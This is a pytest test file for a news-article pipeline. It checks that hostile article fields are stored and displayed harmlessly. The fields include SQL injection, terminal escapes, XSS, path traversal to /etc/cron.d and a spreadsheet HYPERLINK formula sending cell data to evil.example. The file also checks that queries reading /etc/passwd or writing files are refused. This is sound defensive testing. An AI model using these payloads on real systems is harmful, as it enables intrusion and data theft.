"""Articles by someone who means harm: they are read, stored and shown, and do none."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from pipelines.__main__ import main
from tests.factories import write_lines

SQL = "x'); drop table mentions; --"
ESCAPE = "\x1b]0;owned\x07\x1b[2J\u202e"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"Talks")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
PLACE = "../../../../etc/cron.d/owned"
SIGNED = "Chad and Libya signed a border accord in Tripoli on Monday."

HOSTILE: dict[str, dict[str, Any]] = {
    "sql": {"id": SQL, "title": SQL, "source": SQL, "url": f"https://a.example/{SQL}"},
    "escapes": {"id": "escapes", "title": ESCAPE, "source": f"Wire{ESCAPE}"},
    "formula": {"id": FORMULA, "title": FORMULA, "source": "@SUM(1+1)"},
    "script": {"id": "script", "title": SCRIPT, "source": SCRIPT},
    "path": {"id": PLACE, "title": PLACE, "source": PLACE, "language": PLACE},
    "nul": {"id": "a\x00b", "title": "\x00", "source": "\x00\x01\x02"},
    "surrogate": {"id": "\ud800", "title": "\udfff\ud800", "source": "a\ud800"},
    "unpaired": {"id": "unpaired", "title": '"', "source": "\\", "url": "http://[half"},
}


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    articles = [
        {**fields, "date": f"2024-05-{n:02d}", "text": f"{SIGNED} Invented by {name}."}
        for n, (name, fields) in enumerate(HOSTILE.items(), 1)
    ]
    news = write_lines(folder / "news.jsonl", articles)
    words = ["--quiet", "--lake", str(folder / "lake")]
    assert main(["extract", "--input", str(news), "--slice", "d1", "--merge", *words]) == 0
    assert main(["extract", "--input", str(news), "--slice", "d2", *words]) == 0
    assert main(["compact", *words]) == 0
    assert main(["extract", "--input", str(news), "--slice", "d1", *words]) == 0
    return folder / "lake"


def ask(lake: Path, capsys: pytest.CaptureFixture[str], *words: str) -> str:
    capsys.readouterr()
    assert main(["query", "--lake", str(lake), *words]) == 0
    return capsys.readouterr().out


def test_every_article_is_there_as_it_came(lake: Path, capsys: pytest.CaptureFixture[str]) -> None:
    question = "select distinct article_id, title from mentions"
    rows = json.loads(ask(lake, capsys, question, "--format", "json"))
    shown = {row["article_id"] for row in rows}
    assert {SQL, FORMULA, PLACE, "a\x00b", "\ufffd"} <= shown
    assert len(shown) == len(HOSTILE)
    manifest = json.loads(max((lake / "runs").glob("d1-*")).read_text())
    assert manifest["counts"]["articles"] == len(HOSTILE)
    assert manifest["counts"]["unaccounted"] == 0


def test_no_file_lies_where_an_article_wants_it(lake: Path) -> None:
    inside = {path.relative_to(lake.parent).parts[0] for path in lake.parent.rglob("*")}
    assert inside == {"lake", "news.jsonl"}
    for path in lake.rglob("*"):
        assert path.resolve().is_relative_to(lake.resolve())
        assert "cron" not in str(path.relative_to(lake))


def test_a_table_changes_no_terminal(lake: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shown = ask(lake, capsys, "select article_id, title, source from mentions")
    assert not [letter for letter in shown if letter != "\n" and not letter.isprintable()]


def test_no_cell_of_csv_is_a_formula(lake: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for question in ("mentions", "events", "headlines", "coverage"):
        rows = csv.reader(io.StringIO(ask(lake, capsys, question, "--format", "csv")))
        for row in rows:
            assert not [cell for cell in row if cell.startswith(("=", "@", "+", "\t", "\r"))]


def test_a_value_of_an_article_can_be_asked_for_without_harm(
    lake: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    quoted = SQL.replace("'", "''")
    question = f"select count(*) as n from mentions where article_id = '{quoted}'"
    [row] = json.loads(ask(lake, capsys, question, "--format", "json"))
    assert row["n"] > 0


@pytest.mark.parametrize(
    "question",
    [
        "copy (select 1) to 'owned.csv'",
        "select * from read_text('/etc/passwd')",
        "attach 'owned.db' as owned",
        "install httpfs",
        "set enable_external_access = true",
        "export database 'owned'",
    ],
)
def test_a_question_reads_the_lake_and_nothing_else(
    lake: Path,
    capsys: pytest.CaptureFixture[str],
    question: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["query", "--lake", str(lake), question]) == 2
    assert capsys.readouterr().err.startswith("communique: error: ")
    assert list(tmp_path.iterdir()) == []


def test_the_lake_passes_its_gates_but_for_the_doubled_slice(
    lake: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["--format", "json", "--max_duplicates", "0.5"]
    assert main(["check", "--lake", str(lake), *words]) == 0
    found = {each["gate"]: each["state"] for each in json.loads(capsys.readouterr().out)}
    assert found["slices unlike their manifest"] == "ok"


def test_the_report_runs_no_script_of_an_article(
    lake: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = tmp_path / "report.html"
    assert main(["report", "--lake", str(lake), "--output", str(page)]) == 0
    text = page.read_text(encoding="utf-8")
    assert "<script>alert(1)" not in text
    assert "<img src=x" not in text
